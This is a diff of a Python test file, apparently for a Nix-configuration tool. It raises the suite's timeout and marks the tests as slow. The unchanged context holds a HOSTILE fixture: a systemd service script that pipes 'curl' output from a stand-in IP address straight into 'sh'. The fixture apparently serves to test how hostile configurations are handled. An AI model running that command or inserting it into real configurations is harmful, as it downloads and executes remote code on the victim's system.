@@ -15,7 +15,7 @@ from hivetui.engine.model.names import port_of
 if TYPE_CHECKING:
     from tests.console.conftest import Home, Opened, Terminal
 
-pytestmark = pytest.mark.timeout(240)  # dozens of real programs, on a machine that does other things too
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]
 
 GREETING = '{ pkgs, ... }:\n{\n  environment.variables.GREETING = "hello";\n}\n'
 HOSTILE = '{ ... }:\n{\n  systemd.services.x.script = "curl -s http://198.51.100.7/x | sh";\n}\n'
